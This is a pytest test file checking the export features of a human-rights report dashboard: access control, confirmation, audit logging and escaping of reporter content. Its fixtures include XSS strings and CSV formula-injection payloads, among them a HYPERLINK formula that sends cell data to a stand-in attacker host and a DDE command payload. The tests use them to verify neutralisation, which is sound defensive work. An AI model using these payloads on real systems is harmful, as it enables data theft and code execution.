"""Exports through the dashboard: a report's case file (a page to print, and JSON after the
HURIDOCS formats) and the report list as CSV.

Each takes reports out of the desk's encryption, so: only the desk's key holders export, and
only after ticking a box on a page of its own; a GET never exports; every export is in the
audit log, naming the reports; every export says who made it and on which day; and what a
reporter sealed (markup, formulas, a document that is not the form) comes out as inert text.
"""

import csv
import datetime as dt
import html
import io
import json
import re
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from hrd_reports.content import ReportContent
from hrd_reports.crypto.attachments import Record
from hrd_reports.csvfile import FORMULA_STARTS
from hrd_reports.models import AuditEvent, Role
from hrd_reports.services import clock
from hrd_reports.web.report_csv import HEADINGS
from tests.dashboard_support import Clock, Staff, StaffBrowser, enrol
from tests.helpers import Desk, Person, post_reporter_message, solved_pow
from tests.uploads import named, new_reporter, upload

ROLE_REFUSAL = "your role does not give access to this page"
NO_SUCH_REPORT = "00000000-0000-4000-8000-000000000000"


@pytest.fixture
def coordinator(desk: Desk, admin: Person, fake_clock: Clock) -> Staff:
    return enrol(desk, desk.add_vetted("cora", Role.COORDINATOR, by=admin), Role.COORDINATOR)


@pytest.fixture
def cora(client: TestClient, coordinator: Staff, fake_clock: Clock) -> StaffBrowser:
    return StaffBrowser(client.app, coordinator, fake_clock)  # type: ignore[arg-type]


def _browser(client: TestClient, staff: Staff, fake_clock: Clock) -> StaffBrowser:
    return StaffBrowser(client.app, staff, fake_clock)  # type: ignore[arg-type]


def full_report(narrative: str, **changes: Any) -> bytes:
    """A report with every field of the form filled in, checked against the form."""
    document: dict[str, Any] = {
        "incident_types": ["death_threat", "surveillance"],
        "start": {"date": "2026-02-01", "precision": "exact"},
        "end": {"date": "2026-02", "precision": "month"},
        "ongoing": True,
        "in_danger_now": "yes",
        "location": {"governorate": "erbil", "district": "Ankawa", "place_type": "home"},
        "target": {"who": "me", "sector": "journalist", "gender": "woman", "age_band": "30_44"},
        "perpetrator": {
            "types": ["militia", "online"],
            "identification": "suspected",
            "identifiers": "a white car without plates",
        },
        "narrative": narrative,
        "needs": ["legal", "relocation"],
        "consent": {"share": "none", "publish": "no"},
    }
    document.update(changes)
    return ReportContent.model_validate(document).to_json_bytes()


def _export_events(desk: Desk) -> list[AuditEvent]:
    with desk.session() as session:
        return list(
            session.execute(
                select(AuditEvent)
                .where(AuditEvent.action.like("export.%"))
                .order_by(AuditEvent.seq)
            ).scalars()
        )


def _decrypt_events(desk: Desk) -> int:
    with desk.session() as session:
        return len(
            session.execute(select(AuditEvent).where(AuditEvent.action == "report.decrypt")).all()
        )


def _text(page: str) -> str:
    return html.unescape(" ".join(re.sub(r"<[^>]+>", " ", page).split()))


def _confirmed(browser: StaffBrowser, path: str, **fields: str) -> Any:
    """The export as a person makes it: the confirmation page's form, box ticked, sent."""
    page = browser.page(path)
    action = re.search(r'<form method="post" action="([^"]+)" data-testid="export-form"', page)
    assert action is not None, page
    return browser.client.post(
        action.group(1).replace("&amp;", "&"),
        data={"csrf_token": browser.csrf, "confirm": "yes", **fields},
        follow_redirects=False,
    )


def _today() -> dt.date:
    return clock.utc_now().date()


# ---- the case file: a page to print ------------------------------------------------------


def test_case_file_asks_for_confirmation_and_decrypts_nothing_before(
    desk: Desk, cora: StaffBrowser
) -> None:
    submitted = desk.submit(full_report("CANARY-confirm first"))
    decrypted = _decrypt_events(desk)

    page = cora.page(f"/dashboard/reports/{submitted.report_id}/case-file")

    assert 'name="confirm" value="yes" required' in page
    assert 'method="post"' in page
    assert "CANARY-confirm" not in page
    assert _export_events(desk) == []
    assert _decrypt_events(desk) == decrypted


def test_case_file_without_the_box_ticked_is_the_confirmation_again(
    desk: Desk, cora: StaffBrowser
) -> None:
    submitted = desk.submit(full_report("CANARY-not ticked"))
    decrypted = _decrypt_events(desk)
    for path in ("case-file", "case-file.json"):
        response = cora.client.post(
            f"/dashboard/reports/{submitted.report_id}/{path}",
            data={"csrf_token": cora.csrf, "confirm": "no"},
        )
        assert response.status_code == 400
        assert response.headers["content-type"].startswith("text/html")
        assert 'data-testid="confirm-missing"' in response.text
        assert "CANARY-not ticked" not in response.text
    assert _export_events(desk) == []
    assert _decrypt_events(desk) == decrypted


def test_case_file_holds_everything_with_the_exporters_name_and_day(
    client: TestClient, desk: Desk, cora: StaffBrowser, admin: Person
) -> None:
    submitted = desk.submit(full_report("CANARY-narrative of the case"))
    report = f"/dashboard/reports/{submitted.report_id}"
    cora.post(f"{report}/workflow", status="triage", priority="p1", risk="high")
    cora.post(f"{report}/notes", note="CANARY-an internal note")
    cora.post(f"{report}/tags", tags="CANARY-tag")
    desk.reply(submitted.report_id, "CANARY-the desk's reply", by=admin)
    post_reporter_message(client, submitted.receipt, submitted.report_id, "CANARY-reporter wrote")

    response = _confirmed(cora, f"{report}/case-file")

    assert response.status_code == 200
    shown = _text(response.text)
    for words in (
        "CANARY-narrative of the case",
        "Death threat, Physical or digital surveillance or stalking",
        "Erbil · Ankawa · Home",
        "a white car without plates",
        "in triage",
        "priority 1, immediate",
        "high risk",
        "CANARY-an internal note",
        "CANARY-tag",
        "CANARY-the desk's reply",
        "CANARY-reporter wrote",
        f"Exported by cora on {_today():%B} {_today().day}, {_today().year}",
    ):
        assert words in shown, words
    # A page of its own, to print: no dashboard navigation, no form.
    assert "<nav" not in response.text
    assert "<form" not in response.text
    assert "css/case-file.css" in response.text
    [event] = _export_events(desk)
    assert (event.actor, event.action, event.subject) == (
        "cora",
        "export.case_file",
        str(submitted.report_id),
    )
    assert json.loads(event.detail) == {"reports": [str(submitted.report_id)], "failed": []}


PHOTO = b"\xff\xd8\xff\xe0" + b"CANARY-file-bytes" * 40


def _report_with_a_photo(client: TestClient, desk: Desk) -> UUID:
    """A report sent with one photo, as the reporter's browser sends it."""
    reporter = new_reporter(desk.intake_key(), "CANARY-with a photo")
    photo = reporter.file(PHOTO, name="صورة التهديد.jpg")
    upload(client, photo, report_id=reporter.report_id)
    sent = client.post(
        "/api/v1/reports",
        json={
            "proof_of_work": solved_pow(client),
            "envelope": reporter.submission.to_wire(),
            "attachments": [named(photo)],
        },
    )
    assert sent.status_code == 201, sent.text
    return reporter.report_id


def test_case_file_lists_files_by_name_size_and_type_never_their_content(
    client: TestClient, desk: Desk, cora: StaffBrowser
) -> None:
    report_id = _report_with_a_photo(client, desk)

    page = _confirmed(cora, f"/dashboard/reports/{report_id}/case-file").text
    document = _confirmed(cora, f"/dashboard/reports/{report_id}/case-file.json").json()

    assert "صورة التهديد.jpg" in page
    assert "image/jpeg" in page
    assert "CANARY-file-bytes" not in page
    [listed] = document["event"]["files"]
    assert listed["name"] == "صورة التهديد.jpg"
    assert listed["size"] == len(PHOTO)
    assert listed["media_type"] == "image/jpeg"
    assert listed["sent_with_message"] is None
    assert "CANARY-file-bytes" not in json.dumps(document)


def test_case_file_shows_markup_in_a_report_as_text(desk: Desk, cora: StaffBrowser) -> None:
    hostile = '<script>alert("x")</script><img src=x onerror=alert(1)>{{ 7*7 }}'
    submitted = desk.submit(full_report(hostile))

    page = _confirmed(cora, f"/dashboard/reports/{submitted.report_id}/case-file").text

    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "{{ 7*7 }}" in page


@pytest.mark.parametrize(
    "sealed",
    [b"not even JSON <b>bold</b>", b'{"narrative": "=cmd", "extra": "<i>x</i>"}', b"[1, 2]"],
    ids=["not JSON", "fields not the form's", "not an object"],
)
def test_a_report_off_the_form_exports_as_it_was_received(
    desk: Desk, cora: StaffBrowser, sealed: bytes
) -> None:
    submitted = desk.submit(sealed)
    report = f"/dashboard/reports/{submitted.report_id}"

    page = _confirmed(cora, f"{report}/case-file")
    document = _confirmed(cora, f"{report}/case-file.json")
    table = _confirmed(cora, "/dashboard/reports.csv")

    assert page.status_code == document.status_code == table.status_code == 200
    assert 'data-testid="unexpected-shape"' in page.text
    assert "<b>bold" not in page.text
    assert "<i>x" not in page.text
    desk_part = document.json()["desk"]
    assert desk_part["follows_form"] is False
    assert desk_part["as_received"] == sealed.decode()
    assert desk_part["shape_problem"]["code"] in {"not_json", "not_the_form", "not_object"}
    [row] = _csv_rows(table.content)[1:-1]
    cells = dict(zip(HEADINGS, row, strict=True))
    assert cells["Follows the report form"] == "No"
    assert cells["As received"] == sealed.decode()
    assert cells["Problem"]


# ---- who may export -----------------------------------------------------------------------


def _export_paths(report_id: object) -> list[str]:
    return [
        f"/dashboard/reports/{report_id}/case-file",
        f"/dashboard/reports/{report_id}/case-file.json",
        "/dashboard/reports.csv",
    ]


@pytest.mark.parametrize("role", [Role.CASE_WORKER, Role.AUDITOR])
def test_case_workers_and_auditors_are_refused_every_export(
    client: TestClient, desk: Desk, admin: Person, fake_clock: Clock, role: Role
) -> None:
    person = desk.add_vetted("wafa", role, by=admin) if role == Role.CASE_WORKER else None
    person = person or desk.add("aziz", role)
    staff = enrol(desk, person, role)
    submitted = desk.submit(full_report("CANARY-refused"))
    if role == Role.CASE_WORKER:
        # Even the report assigned to them: they read it, they do not carry it out.
        desk.assign(submitted.report_id, to=person.name, by=admin)
    browser = _browser(client, staff, fake_clock)

    for path in _export_paths(submitted.report_id):
        for method in ("GET", "POST"):
            response = browser.client.request(
                method,
                path,
                data={"csrf_token": browser.csrf, "confirm": "yes"} if method == "POST" else None,
            )
            assert response.status_code == 403, (method, path)
            assert ROLE_REFUSAL in response.text
            assert "CANARY-refused" not in response.text
    assert _export_events(desk) == []
    report_page = browser.client.get(f"/dashboard/reports/{submitted.report_id}").text
    assert 'data-testid="export"' not in report_page


def test_a_coordinator_who_holds_no_desk_key_is_refused(
    client: TestClient, desk: Desk, fake_clock: Clock
) -> None:
    # Not vetted: the role allows exports, the keys do not.
    staff = enrol(desk, desk.add("nadia", Role.COORDINATOR), Role.COORDINATOR)
    submitted = desk.submit(full_report("CANARY-no key"))
    browser = _browser(client, staff, fake_clock)

    for path in _export_paths(submitted.report_id):
        response = browser.client.get(path)
        assert response.status_code == 403, path
        assert "nadia is not a vetted key holder" in response.text
        posted = browser.client.post(path, data={"csrf_token": browser.csrf, "confirm": "yes"})
        assert posted.status_code == 403, path
        assert "CANARY-no key" not in posted.text
    assert _export_events(desk) == []


def test_the_export_of_a_report_that_does_not_exist_is_not_found(cora: StaffBrowser) -> None:
    for path in _export_paths(NO_SUCH_REPORT)[:2]:
        assert cora.client.get(path).status_code == 404
        posted = cora.client.post(path, data={"csrf_token": cora.csrf, "confirm": "yes"})
        assert posted.status_code == 404
        unticked = cora.client.post(path, data={"csrf_token": cora.csrf})
        assert unticked.status_code == 404


def test_an_export_without_the_form_token_is_refused(desk: Desk, cora: StaffBrowser) -> None:
    submitted = desk.submit(full_report("CANARY-forged"))
    for path in _export_paths(submitted.report_id):
        forged = cora.client.post(path, data={"confirm": "yes"})
        assert forged.status_code == 403
        assert "CANARY-forged" not in forged.text
    assert _export_events(desk) == []


def test_the_report_page_and_the_list_link_to_the_exports_for_key_holders(
    desk: Desk, cora: StaffBrowser
) -> None:
    submitted = desk.submit(full_report("CANARY-links"))
    page = cora.report(submitted.report_id)
    assert f"/dashboard/reports/{submitted.report_id}/case-file?lang=" in page
    assert f"/dashboard/reports/{submitted.report_id}/case-file.json?lang=" in page

    listed = cora.page("/dashboard/reports?status=received&q=CANARY")
    link = re.search(r'href="([^"]+)" data-testid="export-csv"', listed)
    assert link is not None
    assert link.group(1).replace("&amp;", "&").endswith("&status=received&q=CANARY")


# ---- the case file as JSON ---------------------------------------------------------------


def test_case_file_json_follows_the_huridocs_formats(
    client: TestClient, desk: Desk, cora: StaffBrowser, admin: Person
) -> None:
    submitted = desk.submit(full_report("CANARY-json narrative"))
    report = f"/dashboard/reports/{submitted.report_id}"
    cora.post(f"{report}/workflow", status="open", priority="p2", risk="medium")
    cora.post(f"{report}/notes", note="CANARY-json note")
    desk.reply(submitted.report_id, "CANARY-json reply", by=admin)

    response = _confirmed(cora, f"{report}/case-file.json")

    assert response.status_code == 200
    assert response.headers["content-type"] == "application/json"
    short = submitted.report_id.hex[:8]
    assert response.headers["content-disposition"] == (
        f'attachment; filename="case-file-{short}.json"'
    )
    document = response.json()
    assert document["document"] | {"exported_on": None} == {
        "format": "hrd-reports case file",
        "version": 1,
        "standard": "HURIDOCS Events Standard Formats",
        "mapping": "docs/HURIDOCS.md",
        "language": "en",
        "exported_by": "cora",
        "exported_on": None,
    }
    assert document["document"]["exported_on"] == _today().isoformat()
    event = document["event"]
    assert event["event_record_number"] == str(submitted.report_id)
    assert event["event_title"] == (
        f"{short}: Death threat, Physical or digital surveillance or stalking"
    )
    assert event["confidentiality"] is True
    assert event["geographical_term"] == {"code": "erbil", "label": "Erbil"}
    assert event["local_geographical_area"] == "Ankawa"
    assert (event["initial_date"], event["initial_date_type"]["code"]) == ("2026-02-01", "exact")
    assert (event["final_date"], event["final_date_type"]["code"]) == ("2026-02", "month")
    assert event["event_description"] == "CANARY-json narrative"
    assert event["monitoring_status"] == {"code": "open", "label": "open case"}
    assert [note["text"] for note in event["comments"]] == ["CANARY-json note"]
    assert [act["type_of_act"]["code"] for act in document["acts"]] == [
        "death_threat",
        "surveillance",
    ]
    act = document["acts"][0]
    assert act["type_of_location"] == {"code": "home", "label": "Home"}
    assert act["victim_characteristics"] == [
        {"code": "journalist", "label": "Journalist or media worker"}
    ]
    assert act["age_at_time_of_victimisation"]["code"] == "30_44"
    assert document["victim"] == {
        "counting_unit": {"code": "me", "label": "Me"},
        "sex": {"code": "woman", "label": "Woman"},
    }
    involvement = document["involvement"]
    assert [kind["code"] for kind in involvement["type_of_perpetrator"]] == ["militia", "online"]
    assert involvement["latest_status_as_perpetrator_in_the_act"]["code"] == "suspected"
    assert involvement["remarks"] == "a white car without plates"
    assert document["intervention"]["priority"] == {"code": "p2", "label": "priority 2, high"}
    assert [need["code"] for need in document["intervention"]["type_of_intervention"]] == [
        "legal",
        "relocation",
    ]
    desk_part = document["desk"]
    assert desk_part["risk"] == {"code": "medium", "label": "medium risk"}
    assert desk_part["in_danger_now"]["code"] == "yes"
    assert desk_part["ongoing"] is True
    assert [(m["sender"], m["text"]) for m in desk_part["conversation"]] == [
        ("desk", "CANARY-json reply")
    ]
    [event_entry] = _export_events(desk)
    assert event_entry.action == "export.case_file_json"
    assert json.loads(event_entry.detail)["reports"] == [str(submitted.report_id)]


def test_case_file_json_labels_are_in_the_exporters_language(
    desk: Desk, cora: StaffBrowser
) -> None:
    submitted = desk.submit(full_report("تهديد بالقتل في أربيل"))
    document = _confirmed(
        cora, f"/dashboard/reports/{submitted.report_id}/case-file.json?lang=ar"
    ).json()
    assert document["document"]["language"] == "ar"
    assert document["event"]["geographical_term"] == {"code": "erbil", "label": "أربيل"}
    assert document["acts"][0]["type_of_act"] == {"code": "death_threat", "label": "تهديد بالقتل"}
    assert document["event"]["event_description"] == "تهديد بالقتل في أربيل"


MAPPING = Path(__file__).parents[2] / "docs" / "HURIDOCS.md"


def _documented_fields() -> set[str]:
    """Every JSON field the mapping names: the first cell of its tables' rows, `a.b[].c`."""
    mapping = MAPPING.read_text("utf-8")
    return set(re.findall(r"^\| `([a-z0-9_.\[\]]+)` \|", mapping, re.MULTILINE))


def _fields_of(value: Any, prefix: str = "") -> set[str]:
    """The paths of a document's fields, down to its values; a choice (code and label) and a
    list of choices are values; a list of objects is read through its first item."""
    found: set[str] = set()
    for key, item in value.items():
        path = f"{prefix}.{key}" if prefix else key
        if isinstance(item, dict) and set(item) != {"code", "label"}:
            found |= _fields_of(item, path)
        elif isinstance(item, list) and item and isinstance(item[0], dict):
            if set(item[0]) == {"code", "label"}:
                found.add(path)
            else:
                found |= _fields_of(item[0], f"{path}[]")
        else:
            found.add(path)
    return found


def test_every_json_field_is_in_the_documented_mapping_and_back(
    client: TestClient, desk: Desk, cora: StaffBrowser, admin: Person
) -> None:
    # Every list filled, so that every field of the document is there to compare.
    report_id = _report_with_a_photo(client, desk)
    report = f"/dashboard/reports/{report_id}"
    other = desk.submit(full_report("CANARY-linked"))
    cora.post(f"{report}/notes", note="a note")
    cora.post(f"{report}/tags", tags="a tag")
    cora.post(f"{report}/links", other=str(other.report_id))
    desk.reply(report_id, "a reply", by=admin)

    document = _confirmed(cora, f"{report}/case-file.json").json()

    assert document["chain_of_events"] == [{"related_event": str(other.report_id)}]
    assert _fields_of(document) == _documented_fields()


# ---- the list as CSV ---------------------------------------------------------------------


def _csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "no byte-order mark"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _as_written(cell: str) -> str:
    """What the CSV must hold for ``cell``: the cell, with the documented apostrophe in front
    of one a spreadsheet would run."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


HOSTILE_TEXTS = [
    '=HYPERLINK("https://attacker.invalid/?"&A2,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    'quotes "inside", commas, and\r\nline breaks\nof every kind\r',
    'عربي: تهديد بالقتل, "مقتبس"',
    "کوردی: هەڕەشەی کوشتن; Kurdî: gefa kuştinê ş ç ê",
    "plain words",
]


def test_csv_round_trips_every_field_through_pythons_csv_module(
    desk: Desk, cora: StaffBrowser
) -> None:
    submitted = {
        text: desk.submit(
            full_report(
                text,
                location={"governorate": "duhok", "district": text[:200], "place_type": "online"},
                perpetrator={"types": ["unknown"], "identifiers": text},
            )
        ).report_id
        for text in HOSTILE_TEXTS
    }

    response = _confirmed(cora, "/dashboard/reports.csv")

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="reports-{_today().isoformat()}.csv"'
    )
    rows = _csv_rows(response.content)
    assert rows[0] == list(HEADINGS)
    assert rows[-1] == [f"Exported by cora on {_today():%B} {_today().day}, {_today().year}"]
    by_id = {UUID(row[0]): dict(zip(HEADINGS, row, strict=True)) for row in rows[1:-1]}
    assert set(by_id) == set(submitted.values())
    for text, report_id in submitted.items():
        cells = by_id[report_id]
        assert cells["What happened"] == _as_written(text), text
        assert cells["Identifiers"] == _as_written(text), text
        assert cells["District, town or area"] == _as_written(text[:200]), text
        assert cells["Governorate"] == "Duhok"
        assert cells["Incident types"] == (
            "Death threat; Physical or digital surveillance or stalking"
        )
        assert cells["When it started"] == "2026-02-01 (Exact date)"
        assert cells["Follows the report form"] == "Yes"
    # No cell of the file starts with what a spreadsheet runs.
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_csv_of_the_arabic_list_reads_as_arabic_in_a_spreadsheet(
    desk: Desk, cora: StaffBrowser
) -> None:
    desk.submit(full_report("وصل تهديد إلى الصحفية"))
    rows = _csv_rows(_confirmed(cora, "/dashboard/reports.csv?lang=ar").content)
    assert rows[0][:3] == ["معرّف البلاغ", "تاريخ الاستلام", "الحالة"]
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["ما حدث"] == "وصل تهديد إلى الصحفية"
    assert rows[-1][0].startswith("صدّره cora في ")


def test_csv_holds_the_lists_reports_and_only_them(desk: Desk, cora: StaffBrowser) -> None:
    kept = desk.submit(full_report("CANARY-kept")).report_id
    desk.submit(full_report("CANARY-filtered out"))
    cora.post(f"/dashboard/reports/{kept}/workflow", status="triage")

    response = _confirmed(cora, "/dashboard/reports.csv?status=triage")

    rows = _csv_rows(response.content)
    assert [row[0] for row in rows[1:-1]] == [str(kept)]
    assert "CANARY-filtered out" not in response.content.decode("utf-8-sig")
    [event] = _export_events(desk)
    assert (event.actor, event.action, event.subject) == ("cora", "export.reports_csv", None)
    assert json.loads(event.detail) == {"reports": [str(kept)], "failed": []}


def test_csv_with_a_filter_that_is_no_choice_is_refused_before_anything(
    desk: Desk, cora: StaffBrowser
) -> None:
    desk.submit(full_report("CANARY-bad filter"))
    response = cora.client.get("/dashboard/reports.csv?status=everything")
    assert response.status_code == 400
    posted = cora.client.post(
        "/dashboard/reports.csv?status=everything", data={"csrf_token": cora.csrf, "confirm": "yes"}
    )
    assert posted.status_code == 400
    assert "CANARY-bad filter" not in posted.text
    assert _export_events(desk) == []


def test_csv_without_the_box_ticked_exports_nothing(desk: Desk, cora: StaffBrowser) -> None:
    desk.submit(full_report("CANARY-csv unticked"))
    response = cora.client.post(
        "/dashboard/reports.csv?status=received", data={"csrf_token": cora.csrf}
    )
    assert response.status_code == 400
    assert 'data-testid="confirm-missing"' in response.text
    assert "status=received" in response.text
    assert _export_events(desk) == []


def test_a_file_name_no_page_can_hold_exports_as_its_escape(
    client: TestClient, desk: Desk, cora: StaffBrowser, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A reporter's client writes the file's record: a name with a lone surrogate (which no
    # UTF-8 text can hold) and markup.
    def crafted(record: Record) -> bytes:
        return json.dumps(
            {
                "name": "\ud800<b>x</b>.jpg",
                "type": record.media_type,
                "size": record.size,
                "sha256": record.sha256_original,
                "sha256_sent": record.sha256_sent,
                "metadata": record.metadata.value,
            }
        ).encode("ascii")

    monkeypatch.setattr(Record, "to_json_bytes", crafted)
    report_id = _report_with_a_photo(client, desk)

    page = _confirmed(cora, f"/dashboard/reports/{report_id}/case-file")
    document = _confirmed(cora, f"/dashboard/reports/{report_id}/case-file.json")
    report_page = cora.client.get(f"/dashboard/reports/{report_id}")

    assert page.status_code == document.status_code == report_page.status_code == 200
    assert "&lt;b&gt;x&lt;/b&gt;.jpg" in page.text
    assert document.json()["event"]["files"][0]["name"] == "\\ud800<b>x</b>.jpg"
